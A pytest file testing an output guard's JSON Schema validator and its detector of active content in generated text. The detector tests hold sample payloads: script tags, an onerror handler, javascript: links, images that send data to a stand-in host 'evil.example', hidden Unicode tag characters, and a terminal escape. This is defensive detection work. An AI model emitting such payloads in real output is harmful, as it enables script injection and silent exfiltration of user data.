"""Parts of the output guard: schemas, active content, operators' neighbours."""

from __future__ import annotations

import pytest

from extproc.inspectors.output.active import active
from extproc.inspectors.output.schema import fits, unsupported

SCORE = {"type": "number", "minimum": 0, "maximum": 1}


@pytest.mark.parametrize(
    ("schema", "good", "bad"),
    [
        (SCORE, [0, 1, 0.5], [-0.1, 1.1, "0.5", True, None]),
        ({"type": "integer"}, [1, 1.0], [1.5, True, "1"]),
        ({"type": ["string", "null"]}, ["", None], [0, []]),
        ({"enum": ["a", 1]}, ["a", 1, 1.0], ["b", True]),
        ({"const": False}, [False], [0, None]),
        ({"type": "string", "minLength": 2, "maxLength": 3}, ["ab", "abc"], ["a", "abcd"]),
        ({"type": "string", "pattern": "^a+$"}, ["aa"], ["b", "ab"]),
        ({"type": "array", "items": SCORE, "minItems": 1}, [[0]], [[], [2], "x"]),
        ({"prefixItems": [SCORE], "items": False}, [[1], []], [[1, 2], [3]]),
        (
            {"properties": {"a": SCORE}, "required": ["a"], "additionalProperties": False},
            [{"a": 1}],
            [{}, {"a": 2}, {"a": 1, "b": 1}],
        ),
        ({"additionalProperties": SCORE}, [{}, {"x": 1}], [{"x": 2}]),
        ({"anyOf": [{"type": "string"}, SCORE]}, ["x", 1], [2, None]),
        ({"oneOf": [{"minimum": 0}, {"maximum": 10}]}, [11, -1], [5]),
        ({"allOf": [{"minimum": 0}, {"maximum": 10}]}, [5], [11]),
        ({"not": {"type": "null"}}, [1], [None]),
        (
            {
                "$defs": {"n": {"properties": {"next": {"$ref": "#/$defs/n"}}, "required": ["v"]}},
                "$ref": "#/$defs/n",
            },
            [{"v": 1, "next": {"v": 2}}],
            [{"v": 1, "next": {}}],
        ),
        (True, [1], []),
        (False, [], [1]),
    ],
)
def test_schemas(schema, good, bad):
    assert unsupported(schema) is None
    assert [value for value in good if not fits(schema, value)] == []
    assert [value for value in bad if fits(schema, value)] == []


@pytest.mark.parametrize(
    "schema",
    [
        {"dependentRequired": {}},
        {"type": "date"},
        {"required": "a"},
        {"pattern": "("},
        {"$ref": "#/$defs/none"},
        {"$ref": "https://example.com/x"},
        {"properties": []},
        {"anyOf": []},
        {"minimum": "1"},
        [],
    ],
)
def test_what_would_not_be_applied_is_an_error(schema):
    assert unsupported(schema)


def test_a_schema_that_refers_to_itself_ends():
    loop = {"$defs": {"a": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"}
    assert unsupported(loop) is None
    assert not fits(loop, 1)


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("script", "see <script>alert(1)</script>"),
        ("script", "< IFRAME src=x>"),
        ("event_handler", '<img src="x" onerror="alert(1)">'),
        ("script_link", "[a](javascript:alert(1))"),
        ("script_link", "<a href='data:text/html,x'>"),
        ("image_with_data", "![x](https://evil.example/p?d=abc)"),
        ("image_with_data", '<img src="https://evil.example/p?d=abc">'),
        ("hidden_text", "hi\U000e0041\U000e0042\U000e0043"),
        ("terminal_escape", "\x1b[31mred"),
    ],
)
def test_active_content_is_found(rule, text):
    assert [one.type for one in active(text)] == [rule]


@pytest.mark.parametrize(
    "text",
    [
        "a < b and on = 1",
        "![logo](https://example.com/logo.png)",
        "[docs](https://example.com/?q=1)",
        "the javascript: protocol",
        "<p class='on'>x</p>",
        "👩‍👩‍👧 and ﻿ BOM",
        "description of a manuscript",
    ],
)
def test_what_only_looks_active_is_left_alone(text):
    assert list(active(text)) == []
